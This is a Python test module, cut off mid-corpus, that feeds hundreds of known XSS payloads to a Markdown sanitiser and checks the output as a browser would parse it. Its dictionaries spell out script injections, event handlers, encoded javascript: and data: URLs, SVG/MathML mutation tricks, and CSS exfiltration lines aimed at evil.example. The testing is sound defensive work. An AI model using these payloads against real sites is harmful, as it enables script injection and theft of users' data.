"""Hostile Markdown, judged as a browser would read the output.

Hundreds of known attacks, and random text from Hypothesis, go through render_markdown. Each
output is parsed with html5lib (the HTML5 parsing algorithm browsers follow), and every element
and attribute in it is held to the sanitiser's own allowlist (apps.core.rendering). A string
search, as in test_rendering.py, can miss what a browser would build from malformed markup; a
parse cannot. A refusal (MarkdownRefused) is a safe outcome, but every input must be rendered
or refused within the CPU time bound.
"""

import re
import time

import html5lib
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from apps.core.rendering import (
    ALLOWED_PROTOCOLS,
    ALLOWED_TAGS,
    MAX_MARKDOWN_CHARACTERS,
    MAX_NESTING,
    RENDER_CPU_SECONDS,
    MarkdownRefused,
    _allowed_attribute,
    render_markdown,
)

# The renderer stops itself after RENDER_CPU_SECONDS; the rest is parsing, sanitising and
# the test's own overhead.
CPU_SECONDS_PER_INPUT = RENDER_CPU_SECONDS + 0.5
# Over the length limit the text is refused before any parsing: that must be near free.
CPU_SECONDS_TO_REFUSE_A_HUGE_TEXT = 0.1


# The judge -----------------------------------------------------------------------------------

NAMESPACED = re.compile(r"^\{([^}]*)\}(.*)$")
# What a browser's URL parser drops or ignores around and inside a scheme (it strips leading
# C0 controls and spaces, and removes tabs and newlines anywhere): dropped everywhere here, to
# be stricter than any browser.
URL_NOISE = re.compile(r"[\x00-\x20\x7f]")
# A scheme is what comes before the first ":" when that part is only letters, digits, "+", "-"
# and "."; anything else before the ":" (a "/", "#", "?") makes the URL relative.
SCHEME = re.compile(r"([a-z0-9+.\-]+):")
NEVER_SCHEMES = ("javascript:", "data:", "vbscript:")
# Parsed after the output: if it does not come out as an element, the output left something
# open (a comment, an attribute, a raw-text element) that would swallow the rest of the page.
SENTINEL_TEXT = "end-of-hostile-output"
SENTINEL = f"<span>{SENTINEL_TEXT}</span>"


def parse_as_a_browser(html: str):
    # Parsed in a <div>: the rendered text is inserted into an <article>/<div> of a page.
    return html5lib.parseFragment(
        html, container="div", treebuilder="etree", namespaceHTMLElements=False
    )


def scheme_of(href: str) -> str | None:
    """The scheme a browser would read in `href`, lower-cased; None for a relative URL."""
    match = SCHEME.match(URL_NOISE.sub("", href).lower())
    return match.group(1) if match else None


def problems_in(html: str) -> list[str]:
    """Everything in `html` that a browser would make into more than allowed, inert markup."""
    problems = []
    fragment = parse_as_a_browser(html)
    for element in fragment.iter():
        if element is fragment:
            continue
        if not isinstance(element.tag, str):  # a comment: the sanitiser strips every one
            problems.append(f"a comment survived: {element.text!r}")
            continue
        namespaced = NAMESPACED.match(element.tag)
        tag = (namespaced.group(2) if namespaced else element.tag).lower()
        if namespaced:  # SVG or MathML: an <a> in there is not the HTML <a> the list allows
            problems.append(f"<{tag}> in the namespace {namespaced.group(1)}")
        if tag not in ALLOWED_TAGS:
            problems.append(f"<{tag}> is not an allowed tag")
        for name, value in element.attrib.items():
            if NAMESPACED.match(name) or ":" in name:
                problems.append(f"<{tag} {name}>: namespaced attribute")
                continue
            if name.lower().startswith("on"):
                problems.append(f"<{tag} {name}>: event handler")
            if not _allowed_attribute(tag, name, value):
                problems.append(f"<{tag} {name}={value!r}>: attribute not allowed")
            if name.lower() == "href":
                problems.extend(problems_in_href(tag, value))
    parsed_with_sentinel = parse_as_a_browser(html + SENTINEL)
    if not any(
        element.tag == "span" and element.text == SENTINEL_TEXT
        for element in parsed_with_sentinel.iter()
    ):
        problems.append("the output swallows what follows it in the page")
    return problems


def problems_in_href(tag: str, href: str) -> list[str]:
    problems = []
    scheme = scheme_of(href)
    if scheme is not None and scheme not in ALLOWED_PROTOCOLS:
        problems.append(f"<{tag} href={href!r}>: scheme {scheme!r} not allowed")
    if URL_NOISE.sub("", href).lower().startswith(NEVER_SCHEMES):
        problems.append(f"<{tag} href={href!r}>: script or data URL")
    return problems


def render_timed(text: str):
    """(CPU seconds, the Rendered or None when the text was refused)."""
    started = time.process_time()
    try:
        rendered = render_markdown(text)
    except MarkdownRefused:
        rendered = None
    return time.process_time() - started, rendered


def assert_inert_within_the_bound(text: str, name: str = "input"):
    seconds, rendered = render_timed(text)
    assert seconds < CPU_SECONDS_PER_INPUT, f"{name}: {seconds:.2f} s of CPU for {text[:200]!r}"
    if rendered is None:  # refused: nothing is shown, so nothing can run
        return
    for part, html in (("html", rendered.html), ("toc_html", rendered.toc_html)):
        problems = problems_in(html)
        assert not problems, f"{name}: {part} of {text!r} is {html!r}: {problems}"


def test_the_judge_catches_what_a_string_search_could_miss():
    """The judge itself sees, as a browser would, what each of these makes of the page."""
    assert problems_in('<a href="java&#x09;script:alert(1)">x</a>')
    assert problems_in('<a href=" &#1;javascript:alert(1)">x</a>')
    assert problems_in("<svg><a>x</a></svg>")  # an SVG <a>, not the allowed HTML one
    assert problems_in('<p ONCLICK="alert(1)">x</p>')
    assert problems_in('<a href="https://example.org" title="x')  # swallows the page
    assert problems_in("<!-- x -->")
    assert problems_in('<p class="skip-link">x</p>')
    assert not problems_in('<p><a href="https://example.org/a:b">x</a> <a href="#fn:1">1</a></p>')
    assert not problems_in('<a href="/explorer/ampk/" class="node-link">x</a>')


# The corpus ----------------------------------------------------------------------------------

CORPUS: dict[str, str] = {}


def add(name: str, text: str):
    if name in CORPUS:
        raise ValueError(f"two corpus inputs are named {name}")
    CORPUS[name] = text


# <script> in many spellings: case, whitespace and slashes in the tag, split and nested tags,
# unclosed tags, raw-text elements that hide it from naive parsers, encodings.
SCRIPTS = {
    "plain": "<script>alert(1)</script>",
    "upper": "<SCRIPT>alert(1)</SCRIPT>",
    "mixed-case": "<ScRiPt>alert(1)</sCrIpT>",
    "src": "<script src=https://evil.example/x.js></script>",
    "src-slash": "<script/src=//evil.example/x.js></script>",
    "src-data": '<script src="data:text/javascript,alert(1)"></script>',
    "self-closing": "<script src=//evil.example/x.js />",
    "space": "<script >alert(1)</script >",
    "tab": "<script\t>alert(1)</script\t>",
    "newline": "<script\n>alert(1)</script\n>",
    "formfeed": "<script\x0c>alert(1)</script>",
    "slash-attr": "<script/x>alert(1)</script>",
    "type": '<script type="text/javascript">alert(1)</script>',
    "module": '<script type=module>import("//evil.example/x.js")</script>',
    "unclosed": "<script>alert(1)",
    "unclosed-tag": "<script src=//evil.example/x.js",
    "split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "double-lt": "<<script>alert(1)//<</script>",
    "after-end-tag": "</script><script>alert(1)</script>",
    "comment-inside": "<script>/*</script>*/alert(1)</script>",
    "html-comment-inside": "<script><!--\nalert(1)\n--></script>",
    "nul-in-name": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "bogus-attr": '<script xss="" src="//evil.example/x.js"></script>',
    "utf7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "utf7-charset": '<script charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-</script>',
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "entities-no-semicolon": "&ltscript&gtalert(1)&lt/script&gt",
    "fullwidth": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "in-code-span": "`</code><script>alert(1)</script>`",
    "in-fence": "```\n</code></pre><script>alert(1)</script>\n```",
    "in-indented-code": "    </code></pre><script>alert(1)</script>",
    "in-xmp": "<xmp><script>alert(1)</script></xmp>",
    "in-plaintext": "<plaintext><script>alert(1)</script>",
    "in-noembed": "<noembed><script>alert(1)</script></noembed>",
    "in-noframes": "<noframes><script>alert(1)</script></noframes>",
    "in-iframe": "<iframe><script>alert(1)</script></iframe>",
    "namespaced": "<html:script>alert(1)</html:script>",
    "xml-stylesheet-pi": '<?xml-stylesheet href="javascript:alert(1)"?>',
    "in-head": "<head><script>alert(1)</script></head>",
    "after-close-tags": "</code></pre></div></article><script>alert(1)</script>",
}
for name, text in SCRIPTS.items():
    add(f"script-{name}", text)

# Event-handler attributes, each on many tags (some fire without any user action: onerror,
# onload, onanimationstart, ontoggle with open, onbegin in SVG).
HANDLERS = ["onerror", "onload", "onmouseover", "onclick", "onanimationstart", "ontoggle"]
HANDLER_TAGS = {
    "img": '<img src=x {h}="alert(1)">',
    "svg": '<svg {h}="alert(1)"></svg>',
    "body": '<body {h}="alert(1)">',
    "a": '<a href="https://example.org" {h}="alert(1)">x</a>',
    "p": '<p {h}="alert(1)">x</p>',
    "div": "<div {h}='alert(1)'>x</div>",
    "span": "<span {h}=alert(1)>x</span>",
    "video": '<video src=x {h}="alert(1)"></video>',
    "details": '<details open {h}="alert(1)"><summary>x</summary></details>',
    "h2": '<h2 id="x" {h}="alert(1)">x</h2>',
    "td": '<table><tr><td {h}="alert(1)">x</td></tr></table>',
    "code": "<code class=language-js {h}='alert(1)'>x</code>",
    "abbr": '<abbr title="x" {h}="alert(1)">x</abbr>',
    "ol": '<ol start=1 {h}="alert(1)"><li>x</li></ol>',
    "sup": '<sup class="citation" {h}="alert(1)">1</sup>',
}
for handler in HANDLERS:
    for tag, template in HANDLER_TAGS.items():
        add(f"handler-{handler}-{tag}", template.replace("{h}", handler))

# Handlers that fire on focus or by themselves, and spellings of the attribute that slip past
# naive filters (no space before it, slashes, control characters, odd case, encoded value).
for name, text in {
    "input-autofocus": "<input autofocus onfocus=alert(1)>",
    "a-autofocus": '<a href="#" autofocus tabindex=1 onfocus="alert(1)">x</a>',
    "select-autofocus": "<select autofocus onfocus=alert(1)></select>",
    "textarea-autofocus": "<textarea autofocus onfocus=alert(1)></textarea>",
    "button-autofocus": "<button autofocus onfocus=alert(1)>x</button>",
    "contenteditable": "<div contenteditable autofocus onfocus=alert(1)>x</div>",
    "keygen-autofocus": "<keygen autofocus onfocus=alert(1)>",
    "onfocusin": "<p tabindex=1 autofocus onfocusin=alert(1)>x</p>",
    "iframe-onload": "<iframe onload=alert(1)></iframe>",
    "body-onpageshow": "<body onpageshow=alert(1)>",
    "svg-animate-onbegin": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg-set-onbegin": "<svg><set onbegin=alert(1) attributename=x to=1>",
    "svg-discard-onbegin": "<svg><discard onbegin=alert(1)>",
    "marquee-onstart": "<marquee onstart=alert(1)>x</marquee>",
    "audio-onerror": "<audio src=x onerror=alert(1)>",
    "object-onerror": "<object data=x onerror=alert(1)></object>",
    "style-onload": "<style onload=alert(1)></style>",
    "onpointerenter": '<b onpointerenter="alert(1)">x</b>',
    "onbeforetoggle": '<div popover id=p onbeforetoggle="alert(1)">x</div>',
    "img-slash-sep": "<img/src=x/onerror=alert(1)>",
    "img-newline-sep": "<img src=x\nonerror=alert(1)>",
    "img-tab-sep": "<img src=x\tonerror=alert(1)>",
    "img-formfeed-sep": "<img src=x\x0conerror=alert(1)>",
    "img-no-space": '<img src="x"onerror="alert(1)">',
    "img-backtick": "<img src=`x`onerror=alert(1)>",
    "img-upper": "<IMG SRC=x ONERROR=alert(1)>",
    "img-mixed": "<img src=x OnErRoR=alert(1)>",
    "img-spaced-equals": "<img src=x onerror  =  alert(1)>",
    "img-entity-value": "<img src=x onerror=alert&#40;1&#41;>",
    "img-hex-entity-value": '<img src=x onerror="&#x61;lert(1)">',
    "img-eval-src": "<img src=x:alert(1) onerror=eval(src)>",
    "img-nul-before-attrs": "<img\x00 src=x onerror=alert(1)>",
    "img-nul-in-handler": "<img src=x o\x00nerror=alert(1)>",
    "img-quote-in-alt": '<img src="x" alt="\'" onerror="alert(1)">',
    "img-empty-quotes": '<img """><script>alert(1)</script>">',
    "img-backtick-alt": '<img src="x" alt="``onerror=alert(1)">',
    "img-extra-quotes": '<img src=x onerror="alert(1)""">',
}.items():
    add(f"handler-{name}", text)


# Script URLs in every place a URL goes, each in many encodings.
def decimal(text: str, semicolon: bool = True, padding: int = 0) -> str:
    end = ";" if semicolon else ""
    return "".join(f"&#{ord(c):0{padding + 1}d}{end}" for c in text)


def hexadecimal(text: str, semicolon: bool = True, padding: int = 0, x: str = "x") -> str:
    end = ";" if semicolon else ""
    return "".join(f"&#{x}{ord(c):0{padding + 1}X}{end}" for c in text)


URL_ENCODINGS = {
    "plain": lambda s: f"{s}:",
    "upper": lambda s: f"{s.upper()}:",
    "mixed-case": lambda s: "".join(c.upper() if i % 2 else c for i, c in enumerate(s)) + ":",
    "leading-spaces": lambda s: f"  {s}:",
    "leading-controls": lambda s: f"\x01\x02\x1f{s}:",
    "leading-nul": lambda s: f"\x00{s}:",
    "tab-inside": lambda s: f"{s[:3]}\t{s[3:]}:",
    "newline-inside": lambda s: f"{s[:3]}\n{s[3:]}:",
    "cr-inside": lambda s: f"{s[:3]}\r{s[3:]}:",
    "nul-inside": lambda s: f"{s[:3]}\x00{s[3:]}:",
    "entity-tab-inside": lambda s: f"{s[:3]}&#x09;{s[3:]}:",
    "named-tab-inside": lambda s: f"{s[:3]}&Tab;{s[3:]}:",
    "named-newline-inside": lambda s: f"{s[:3]}&NewLine;{s[3:]}:",
    "entity-first-letter": lambda s: f"{decimal(s[0])}{s[1:]}:",
    "decimal": lambda s: decimal(f"{s}:"),
    "decimal-no-semicolon": lambda s: decimal(f"{s}:", semicolon=False),
    "decimal-zero-padded": lambda s: decimal(f"{s}:", semicolon=False, padding=6),
    "hex": lambda s: hexadecimal(f"{s}:"),
    "hex-no-semicolon": lambda s: hexadecimal(f"{s}:", semicolon=False),
    "hex-zero-padded": lambda s: hexadecimal(f"{s}:", padding=5),
    "hex-capital-x": lambda s: hexadecimal(f"{s}:", x="X"),
    "named-colon": lambda s: f"{s}&colon;",
    "decimal-colon": lambda s: f"{s}&#58;",
    "hex-colon-no-semicolon": lambda s: f"{s}&#x3a",
    "percent-encoded": lambda s: "".join(f"%{ord(c):02X}" for c in s) + ":",
    "percent-colon": lambda s: f"{s}%3A",
    "backslash-escaped-colon": lambda s: f"{s}\\:",
}
# The encodings that most often get through filters, for the rarer schemes.
SHORT_ENCODINGS = [
    "plain",
    "upper",
    "leading-spaces",
    "tab-inside",
    "nul-inside",
    "hex",
    "decimal-no-semicolon",
    "named-colon",
]
SCHEMES = {
    "js": ("javascript", "alert(1)", URL_ENCODINGS),
    "data": ("data", "text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", SHORT_ENCODINGS),
    "vbs": ("vbscript", "msgbox(1)", SHORT_ENCODINGS),
}
URL_PLACES = {
    "md-link": "[x]({u})",
    "md-link-angle": "[x](<{u}>)",
    "md-link-title": '[x]({u} "title")',
    "md-ref": "[x][r]\n\n[r]: {u}",
    "md-ref-angle": "[x][r]\n\n[r]: <{u}>",
    "md-image": "![x]({u})",
    "md-autolink": "<{u}>",
    "a-href": '<a href="{u}">x</a>',
    "a-href-unquoted": "<a href={u}>x</a>",
    "img-src": "<img src='{u}'>",
    "form-action": '<form action="{u}"><button>x</button></form>',
    "button-formaction": '<button formaction="{u}">x</button>',
    "svg-xlink-href": '<svg><a xlink:href="{u}"><text>x</text></a></svg>',
    "iframe-src": '<iframe src="{u}"></iframe>',
}
# Without semicolons a hex reference would run on into the "a" of "alert": the whole URL is
# encoded, as in the classic filter-evasion lists.
WHOLE_URL_ENCODED = {"hex-no-semicolon", "hex-colon-no-semicolon"}
for scheme_name, (scheme, rest, encodings) in SCHEMES.items():
    for encoding in encodings:
        encoded_rest = hexadecimal(rest, semicolon=False) if encoding in WHOLE_URL_ENCODED else rest
        url = URL_ENCODINGS[encoding](scheme) + encoded_rest
        for place, template in URL_PLACES.items():
            add(f"url-{scheme_name}-{encoding}-{place}", template.replace("{u}", url))

# Script URLs in shapes the matrix above does not make.
for name, text in {
    "js-comment-newline": "[x](javascript://%0aalert(1))",
    "js-comment-host": "[x](javascript://example.org/%0Aalert(1))",
    "js-backtick-call": "[x](javascript:alert`1`)",
    "js-percent-call": "[x](javascript:alert%281%29)",
    "js-escaped-letter": "[x](java\\script:alert(1))",
    "js-leading-backslash": "[x](\\javascript:alert(1))",
    "js-title-and-space": "[x]( javascript:alert(1) 'x')",
    "js-nested-parens": "[x](javascript:alert((1)))",
    "js-unbalanced-paren": "[x](javascript:alert(1)",
    "js-escaped-paren": "[x](javascript:alert\\(1\\))",
    "js-ref-uppercase-label": "[x][R]\n\n   [r]: javascript:alert(1)",
    "js-ref-shortcut": "[r]\n\n[r]: javascript:alert(1)",
    "js-ref-collapsed": '[r][]\n\n[r]: javascript:alert(1) "t"',
    "js-ref-title-next-line": "[x][r]\n\n[r]: javascript:alert(1)\n    'title'",
    "js-a-entity-parens": "<a href=javascript&colon;alert&lpar;1&rpar;>x</a>",
    "js-a-cr-entity": '<a href="jav&#x0D;ascript:alert(1)">x</a>',
    "js-a-slash-href": "<a/href=javascript:alert(1)>x</a>",
    "js-a-formfeed-href": "<a\x0chref=javascript:alert(1)>x</a>",
    "js-a-space-entity": '<a href="&#x20;javascript:alert(1)">x</a>',
    "js-a-control-first": '<a href="\x10javascript:alert(1)">x</a>',
    "js-a-del-inside": '<a href="java\x7fscript:alert(1)">x</a>',
    "js-a-nel-first": '<a href="\x85javascript:alert(1)">x</a>',
    "js-a-nbsp-first": '<a href="\u00a0javascript:alert(1)">x</a>',
    "js-a-two-hrefs": '<a href="https://example.org" href="javascript:alert(1)">x</a>',
    "js-a-node-link-class": '<a class="node-link" href="javascript:alert(1)">x</a>',
    "js-area": '<map name=m><area href="javascript:alert(1)" shape=default></map>',
    "js-math-href": "<math href=javascript:alert(1)>x</math>",
    "js-img-srcset": "<img srcset='javascript:alert(1) 1x'>",
    "js-source-srcset": "<picture><source srcset=javascript:alert(1)><img></picture>",
    "js-video-poster": "<video poster=javascript:alert(1)></video>",
    "js-body-background": "<body background=javascript:alert(1)>",
    "js-table-background": "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
    "js-isindex-action": "<isindex action=javascript:alert(1) type=image>",
    "js-object-data": '<object data="javascript:alert(1)"></object>',
    "js-embed-src": '<embed src="javascript:alert(1)">',
    "js-input-formaction": '<form><input type=submit formaction="javascript:alert(1)"></form>',
    "js-button-form-attr": "<form id=f></form>"
    '<button form=f formaction="javascript:alert(1)">x</button>',
    "data-svg-image": "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "data-svg-base64": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "data-html-inline": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "data-embed-svg": '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "data-iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "data-iframe-srcdoc-entities": "<iframe srcdoc='&lt;img src=x onerror=alert(1)&gt;'>",
    "file-scheme": "[x](file:///etc/passwd)",
    "ms-its-scheme": "[x](ms-its:mhtml:file://c:/x.mht!https://evil.example/x.chm::/x.htm)",
    "blob-scheme": "[x](blob:https://example.org/uuid)",
    "livescript": "[x](livescript:alert(1))",
    "mocha": "[x](mocha:alert(1))",
    "protocol-relative": "[x](//evil.example/x)",
    "backslash-relative": "[x](\\\\evil.example\\x)",
}.items():
    add(f"url-{name}", text)

# SVG and MathML: script inside them, namespace confusion and mutation XSS (markup that
# parses differently once serialised and parsed again), raw-text elements used to hide markup
# from one parser but not the other.
for name, text in {
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-script-href": "<svg><script href=data:,alert(1) />",
    "svg-script-xlink": "<svg><script xlink:href=data:,alert(1)></script></svg>",
    "svg-onload": "<svg onload=alert(1)>",
    "svg-slash-onload": "<svg/onload=alert(1)>",
    "svg-set-href": '<svg><a><set attributeName="href" to="javascript:alert(1)"/>'
    "<text y=20>x</text></a></svg>",
    "svg-animate-href": "<svg><a><animate attributeName=href values=javascript:alert(1) />"
    "<text x=20 y=20>x</text></a></svg>",
    "svg-foreignobject-iframe": "<svg><foreignObject><iframe src=javascript:alert(1)>"
    "</iframe></foreignObject></svg>",
    "svg-style-img": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "svg-p-style-breakout": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "svg-title-style": "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "svg-desc-style": "<svg><desc><style><img src=x onerror=alert(1)>",
    "svg-use-data": "<svg><use href=\"data:image/svg+xml,<svg id='x' "
    "xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)' /></svg>#x\" />",
    "svg-image-onerror": "<svg><image href=x onerror=alert(1) />",
    "svg-handler": "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events "
    "ev:event=load>alert(1)</handler></svg>",
    "svg-p-breakout": "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    "svg-cdata": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "svg-cdata-close": "<svg><![CDATA[</svg><script>alert(1)</script>]]>",
    "svg-annotation-foreignobject": "<svg><annotation-xml><foreignobject><style>"
    "<img src=x onerror=alert(1)>",
    "svg-in-table-foreignobject": "<table><td><svg><foreignObject><img src=x onerror=alert(1)>",
    "svg-desc-html-a": "<a href=x><svg><desc><a href=javascript:alert(1)>x</a></desc></svg></a>",
    "math-mglyph-style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "math-mglyph-comment": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
    "math-form-nesting": "<form><math><mtext></form><form><mglyph><style></math>"
    "<img src onerror=alert(1)>",
    "math-h1-svg-mtext": "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style>"
    '<a title="</style><img src onerror=alert(1)>"></style></h1>',
    "math-maction": "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>"
    "x</maction></math>",
    "math-a-xlink": "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "math-annotation-html": '<math><annotation-xml encoding="text/html">'
    "<img src=x onerror=alert(1)></annotation-xml></math>",
    "math-mi-xlink-data": '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
    "math-style": "<math><style><img src=x onerror=alert(1)></style></math>",
    "math-unknown-href": "<math><brute href=javascript:alert(1)>x</brute></math>",
    "noscript-title": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "noscript-style": "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "template-script": "<template><script>alert(1)</script></template>",
    "template-img": "<template><img src=x onerror=alert(1)></template>",
    "select-template-comment": '<select><template><style><!--</style><a rel="--></style>'
    '</template></select><img src=x onerror=alert(1)>">',
    "textarea-breakout": '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
    "title-breakout": '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
    "style-breakout": '<style><img title="</style><img src=x onerror=alert(1)>"></style>',
    "iframe-breakout": '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>',
    "xmp-breakout": '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "noembed-breakout": '<noembed><img title="</noembed><img src=x onerror=alert(1)>">',
    "noframes-breakout": '<noframes><img title="</noframes><img src=x onerror=alert(1)>">',
    "style-then-img": "<style>*{}</style><img src=x onerror=alert(1)>",
}.items():
    add(f"foreign-{name}", text)

# Elements that load, embed, submit or redirect, whatever their attributes.
for name, text in {
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "iframe-unclosed": "<iframe src=//evil.example",
    "object-param": '<object data="x.swf"><param name=allowScriptAccess value=always></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "applet": '<applet code="x.class" codebase="//evil.example/"></applet>',
    "form-input": '<form action="https://evil.example"><input name="password"></form>',
    "input-image": "<input type=image src=x onerror=alert(1)>",
    "input-hidden": '<input type=hidden name=csrfmiddlewaretoken value="x">',
    "button-submit": "<button type=submit>Log in again</button>",
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "meta-refresh-unquoted": "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "meta-refresh-data": '<meta http-equiv="refresh" content="0;url=data:text/html;base64,'
    'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "meta-csp": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "meta-charset": '<meta charset="utf-7">',
    "base-href": '<base href="https://evil.example/">',
    "base-target": "<base target=_blank>",
    "link-import": '<link rel=import href="https://evil.example/x.html">',
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "link-preload": "<link rel=preload as=script href=//evil.example/x.js>",
    "frameset": "<frameset><frame src=javascript:alert(1)></frameset>",
    "portal": '<portal src="https://evil.example"></portal>',
    "keygen": "<keygen name=x>",
    "dialog-open": "<dialog open><form method=dialog><button>Close</button></form></dialog>",
    "img-remote": '<img src="https://evil.example/track.gif">',
    "video-track": '<video><track src="https://evil.example/x.vtt"></video>',
    "bgsound": "<bgsound src=javascript:alert(1)>",
    "layer": "<layer src=https://evil.example/x.html></layer>",
    "html-manifest": '<html manifest="https://evil.example/x.appcache">',
    "h1-second-title": "<h1>A second page title</h1>",
    "slot": '<slot name="x"><img src=x onerror=alert(1)></slot>',
    "hx-attributes": '<div hx-get="/admin/" hx-trigger="load" hx-target="body">x</div>',
    "target-blank": '<a href="https://evil.example" target="_blank">x</a>',
    "borrowed-class": '<p class="skip-link toc">x</p><a class="citation" href="#x">1</a>',
    "data-attributes": '<p data-controller="x" data-action="click->x#y">x</p>',
}.items():
    add(f"element-{name}", text)

# Inline styles: CSS that runs script in old browsers, loads from elsewhere, or covers the page.
for name, text in {
    "expression": '<p style="width:expression(alert(1))">x</p>',
    "expression-comment": '<p style="xss:expr/**/ession(alert(1))">x</p>',
    "expression-css-escape": '<div style="x:\\65 xpression(alert(1))">x</div>',
    "url-javascript": '<p style="background:url(javascript:alert(1))">x</p>',
    "url-entity": '<p style="background:url(&#106;avascript:alert(1))">x</p>',
    "url-data-svg": '<p style="background-image:'
    "url('data:image/svg+xml,<svg onload=alert(1)>')\">x</p>",
    "behavior": '<p style="behavior:url(x.htc)">x</p>',
    "moz-binding": '<p style="-moz-binding:url(//evil.example/x.xml#x)">x</p>',
    "overlay": '<span style="position:fixed;inset:0;z-index:9999;background:white">x</span>',
    "clickjack-link": '<a href="https://evil.example" style="position:fixed;top:0;left:0;'
    'width:100%;height:100%">x</a>',
    "upper-attribute": '<b STYLE="x:expression(alert(1))">x</b>',
    "on-allowed-class": '<div class="toc" style="background:url(javascript:alert(1))">x</div>',
    "style-element-url": '<style>p{background:url("javascript:alert(1)")}</style>',
    "style-element-import": "<style>@import url(//evil.example/x.css);</style>",
    "style-element-exfiltrate": "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
    "style-element-import-js": "<style>@import 'javascript:alert(1)';</style>",
}.items():
    add(f"style-{name}", text)

# Malformed and unclosed markup: what a browser repairs, and what comments and bogus tags hide.
for name, text in {
    "img-unclosed-comment": "<img src=x onerror=alert(1)//",
    "img-unclosed-space": "<img src=x onerror=alert(1) ",
    "a-unclosed-tag": '<a href="javascript:alert(1)"',
    "a-unclosed-element": '<a href="javascript:alert(1)">x',
    "a-unbalanced-quote": "<a href='javascript:alert(1)>x</a>",
    "a-double-quote-end": '<a href="https://example.org"" onclick="alert(1)">x</a>',
    "a-no-space-after-quote": '<a href="https://example.org"onclick=alert(1)>x</a>',
    "a-quotes-in-title": '<a href="https://example.org" title="x\'onclick=\'alert(1)\'">x</a>',
    "a-title-no-space": '<a title="x"onmouseover="alert(1)" href=#>x</a>',
    "a-open-title": '<a href="https://example.org" title="x>y',
    "double-lt-script": "<<script>alert(1);//<</script>",
    "double-lt-img": "<<img src=x onerror=alert(1)>>",
    "lt-end-tag": "<</p><img src=x onerror=alert(1)>",
    "comment-bang-close": "<!-- --!><img src=x onerror=alert(1)> -->",
    "comment-abrupt": "<!--><img src=x onerror=alert(1)>-->",
    "comment-abrupt-dash": "<!---><img src=x onerror=alert(1)>-->",
    "comment-spaced-close": "<!-- -- ><img src=x onerror=alert(1)> -->",
    "comment-unclosed": "<!-- <img src=x onerror=alert(1)>",
    "comment-conditional": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "comment-downlevel-revealed": "<![if true]><img src=x onerror=alert(1)><![endif]>",
    "comment-endif": "<![endif]--><img src=x onerror=alert(1)>",
    "comment-in-attribute": '<!--<img src="--><img src=x onerror=alert(1)//">',
    "comment-script-inside": "<!--<script>alert(1)</script>-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "cdata-breakout": "<![CDATA[ ]]><img src=x onerror=alert(1)> ]]>",
    "bogus-pi": '<? foo="><script>alert(1)</script>">',
    "bogus-bang": '<! foo="><script>alert(1)</script>">',
    "bogus-end-tag": '</ foo="><script>alert(1)</script>">',
    "bogus-percent": "<% foo><img src=x onerror=alert(1)>",
    "doctype": "<!DOCTYPE html><html><body onload=alert(1)>",
    "frameset-onload": "<frameset onload=alert(1)>",
    "deep-unclosed": "<div><p>unclosed <b><i>nesting<img src=x onerror=alert(1)",
    "stray-end-tags": "<p>x</p></div></div></div><script>alert(1)</script>",
    "table-script": "<table><tr><td>x</td></tr><script>alert(1)</script></table>",
    "table-foster-parent": "<table><img src=x onerror=alert(1)></table>",
    "select-img": "<select><img src=x onerror=alert(1)></select>",
    "nul-after-handler": "<img src=x onerror=alert(1)\x00>",
    "end-tag-attributes": "<p>x</p onclick=alert(1)><b>y</b>",
    "attribute-without-value-then-handler": "<p hidden onclick=alert(1)>x</p>",
    "solidus-self-close-p": "<p/onclick=alert(1)>x</p>",
    # Marked sections other than CDATA inside raw HTML: Python's html.parser, which
    # disallowed_tags runs over the unsanitised HTML, raises on them; a text must be rendered
    # or refused, never crash the preview, the admin or load_content.
    "marked-section-in-div": "<div><![x]><img src=x onerror=alert(1)></div>",
